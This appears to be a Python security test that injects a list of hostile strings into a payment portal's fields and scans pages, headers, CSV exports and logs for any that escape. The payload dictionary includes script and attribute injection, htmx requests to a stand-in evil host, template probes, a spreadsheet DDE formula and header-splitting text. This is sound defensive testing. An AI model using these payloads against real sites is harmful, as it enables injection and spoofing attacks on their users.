"""Texts of a portal that try to leave their place: in pages, attributes, files, heads and logs."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from functools import partial
from html.parser import HTMLParser
from pathlib import Path

import requests

from tools.attack.report import Row
from tools.attack.tries import EVIL, Tries
from tools.attack.two_portals import (
    ADMIN,
    CARD,
    Party,
    ask,
    filled,
    first_portal,
    put_texts,
    routes,
)
from tools.stage import Stage

MARK = "xinj"
OVERRIDE = "\u202e"
TEXTS = {
    "an element": f"\"><{MARK} onclick=1></{MARK}>'><{MARK}>",
    "a script": f"</script></textarea></title></style><{MARK}><script>{MARK}()</script>",
    "an attribute": f"' {MARK}='1' onfocus='1' x=\"\" {MARK}=\"2\"",
    "an attribute of htmx": f'" hx-get="//{EVIL}/" hx-trigger="load" {MARK}="',
    "JSON in an attribute": f'","{MARK}":"1","x":"\',"{MARK}":\'',
    "a template": "{{1330*1337}}{% debug %}${1330*1337}#{1330*1337}",
    "a format": "%(number)s %s {0} {name} %n",
    "an address": f"javascript:{MARK}()",
    "an address elsewhere": f"//{EVIL}/{MARK}",
    "lines": f"a\r\nX-Inj: 1\r\n\r\n<{MARK}>\nINJECTED\u2028INJECTED\u0085INJECTED\u001b[2J",
    "a formula": "=cmd|'/c calc'!A1",
    "a formula after a separator": "a;=1+1;@SUM(1);\t+1\n-1,\uff1d1",
    "BBCode": f"[url=javascript:{MARK}()]a[/url][img]//{EVIL}[/img]",
    "a comment": f"<!-- {MARK} --!><![CDATA[ ]]>",
    "an entity": f"&lt;{MARK}&gt;&#60;{MARK}&#62;",
    "100,000 letters": "W" * 100_000,
    "marks upon marks": "Z" + "\u0301" * 5_000,
    "from right to left": f"abc{OVERRIDE}00.1 diaP",
    "from right to left, unclosed": "\u2067\u202b\u202e\u2066 000,1",
    "nothing to see": "\u200b\u2060\ufeff\u00ad",
    "halves": "\ud83d\x00\ud83d",
}
LONGEST_PAGE = 3_000_000
ADDRESSES = ("href", "src", "action", "formaction", "data", "poster")
WAYS = ("hx-get", "hx-post", "hx-delete", "hx-put", "hx-patch")
OUR_OWN = re.compile(r"/[a-z]|#|https?://|$|mailto:|sms:|data:image/png;base64,")
ISOLATING = frozenset({"bdi", "td", "th", "option", "textarea", "title", "li", "dd", "dt", "code"})
ALSO = {
    "crm.enum.ownertype": ("NAME", "title"),
    "crm.item.payment.list": ("accountNumber", "currency"),
    "crm.item.productrow.list": ("measureName", "xmlId"),
    "crm.item.productrow.getavailableforpayment": ("measureName", "xmlId"),
    "crm.item.delivery.list": ("accountNumber", "currency"),
    "crm.item.get": ("currencyId", "stageId", "name", "value"),
    "profile": ("TIME_ZONE",),
    "salescenter.payment.getpublicurl": ("url", "shortUrl"),
    "app.info": ("LICENSE", "LANGUAGE_ID"),
}
"""Texts too, but of a kind that a page may refuse to show."""


def injected_texts(running: Stage) -> Iterator[Row]:
    """21 hostile texts in every name, number, currency, unit and link that a portal answers."""
    party = first_portal(running)
    party.control.control("limits", rate="off", operating="off")
    tries = Tries("texts in pages", "each stays in its place; each page has its length")
    for name, text in TEXTS.items():
        party.control.control("odd_value")
        put_texts(party.control, json.dumps(text))
        _walk(running, party, tries, name)
        for method, fields in ALSO.items():
            for field in fields:
                party.control.control(
                    "odd_value", method=method, field=field, text=json.dumps(text)
                )
        _walk(running, party, tries, f"{name}, everywhere")
    party.control.control("odd_value")
    yield tries.row()
    log = Path(running.folder, "app.log").read_text(errors="replace").splitlines()
    rest = "".join(file.read_text() for file in Path(running.folder, "rest-log").glob("*"))
    tries = Tries("texts in the logs", "no line begins with one, the REST log holds none")
    tries.saw("app.log", "a line" if any(line.startswith("INJECTED") for line in log) else "")
    tries.saw("REST log", "a text" if MARK in rest or "INJECTED" in rest else "")
    tries.saw("REST log", "a broken line" if any(map(_is_broken, rest.splitlines())) else "")
    yield tries.row()


def _walk(running: Stage, party: Party, tries: Tries, name: str) -> None:
    """Look at every page and at what a few writes say, as an administrator."""
    card, page = party.session(ADMIN), party.session(ADMIN, "/")
    payments = _payments(party)
    unpaid = next(number for number, paid in payments if paid == "N")
    item = _delivery_item(party, [number for number, _paid in payments])
    paths = [
        ("GET", f"{_path(rule, unpaid, item)}?ids={unpaid}&rows=9&first=1")
        for method, rule in routes()
        if method == "GET" and rule.startswith(("/payments", "/settings"))
    ]
    writes = [("POST", f"/payments/{unpaid}/pay"), ("POST", f"/payments/{unpaid}/unpay"),
              ("POST", "/settings/repair")]  # fmt: skip
    for method, path in paths + writes:
        token = page if path.startswith("/settings") else card
        tries.send(
            f"{name}: {method} {path.partition('?')[0]}",
            partial(
                ask,
                running.app_url,
                method,
                path,
                token,
                {"shown": ""} if method == "POST" else None,
            ),
            _escaped,
        )


def _escaped(answer: requests.Response) -> str:
    """What of a text left its place, or nothing."""
    if len(answer.text) > LONGEST_PAGE:
        return f"{len(answer.text)} letters"
    if "1778210" in answer.text:
        return "a template was carried out"
    if any(MARK in value for value in answer.headers.values()):
        return "a text in a head"
    kind = answer.headers.get("Content-Type", "")
    if "csv" in kind:
        return _formulas(answer.text)
    if kind.startswith("text/plain"):
        # No browser takes it for a page, unless it may guess.
        may_guess = answer.headers.get("X-Content-Type-Options") != "nosniff"
        return "a browser may guess what it is" if may_guess else ""
    page = _Page()
    page.feed(answer.text)
    page.close()
    return "; ".join(sorted(page.problems)[:3])


def _formulas(text: str) -> str:
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text), delimiter=separator):
            if any(cell.lstrip('\ufeff "').startswith(tuple("=+-@\uff1d")) for cell in row):
                return f"a formula where {separator!r} separates"
    return ""


class _Page(HTMLParser):
    """Reads a page as a browser does and writes down what no template of ours has made."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: set[str] = set()
        self._open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in {"input", "br", "hr", "img", "link", "meta", "use", "path"}:
            self._open.append(tag)
        if tag in {MARK, "script"} and (tag == MARK or not dict(attrs).get("src")):
            self.problems.add(f"an element <{tag}>")
        for name, value in attrs:
            if name == MARK or (name.startswith("on") and name != "on"):
                self.problems.add(f"an attribute {name}")
            if name in ADDRESSES and not OUR_OWN.match(value or ""):
                self.problems.add(f"{name}={(value or '')[:30]}")
            if name in ADDRESSES + WAYS and (value or "").startswith(("//", "/\\")):
                self.problems.add(f"{name} leads elsewhere")
            if name in {"hx-vals", "hx-headers"}:
                self._json(name, value or "")

    def _json(self, name: str, value: str) -> None:
        try:
            read = json.loads(value)
        except ValueError:
            self.problems.add(f"{name} is no JSON")
            return
        if MARK in read:
            self.problems.add(f"a field in {name}")

    def handle_endtag(self, tag: str) -> None:
        if tag in self._open:
            while self._open.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if OVERRIDE in data and not ISOLATING & set(self._open):
            where = "/".join(self._open[-3:])
            self.problems.add(f"turned words in {where}: {data.strip()[:30]!r}")

    def handle_comment(self, data: str) -> None:
        self.problems.add(f"a comment {data[:20]}")


def _is_broken(line: str) -> bool:
    try:
        json.loads(line)
    except ValueError:
        return True
    return False


def _path(rule: str, payment: int, item: tuple[int, int]) -> str:
    """A rule's path about a payment, or about a line of delivery and the payment it is in."""
    if "<int:item_id>" in rule:
        payment = item[0]
    return filled(rule.replace("<int:item_id>", str(item[1])), payment)


def _delivery_item(party: Party, payments: list[int]) -> tuple[int, int]:
    auth = party.tokens(ADMIN)["AUTH_ID"]
    for number in payments:
        found = party.control.call(
            "crm.item.payment.delivery.list", {"paymentId": number, "auth": auth}
        )
        if found:
            return number, int(found[0]["id"])
    return payments[0], 1


def _payments(party: Party) -> list[tuple[int, str]]:
    auth = party.tokens(ADMIN)["AUTH_ID"]
    listed = party.control.call(
        "crm.item.payment.list", {"entityTypeId": 2, "entityId": CARD, "auth": auth}
    )
    return [(int(row["id"]), str(row["paid"])) for row in listed]
